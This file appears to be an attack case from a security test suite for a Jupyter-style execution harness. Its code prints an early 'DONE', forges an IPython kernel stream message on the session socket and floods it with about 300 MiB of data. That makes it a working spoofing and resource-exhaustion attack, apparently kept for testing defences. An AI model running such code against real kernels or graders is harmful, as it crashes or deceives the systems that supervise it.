# /// attack
# exercise = "gradient-argument"
# defended-by = ["design"]
# costs = true
# ///

# %% name="question"
import json
import struct

from IPython import get_ipython

print("DONE", flush=True)
kernel = get_ipython().kernel
line = kernel.session.line
parent = kernel.get_parent("shell")["header"]
header = kernel.session.msg_header("stream")
told = {"channel": "iopub", "header": header, "parent_header": parent, "metadata": {}}
start = json.dumps(told, default=str).encode()[:-1]
start += b', "content": {"name": "stdout", "text": "'
size = len(start) + (300 << 20) + 3
line.socket.sendall(struct.pack(">4sIQ", b"GRD1", size, 0) + start)
for _ in range(300):
    line.socket.sendall(b"x" * (1 << 20))
line.socket.sendall(b'"}}')
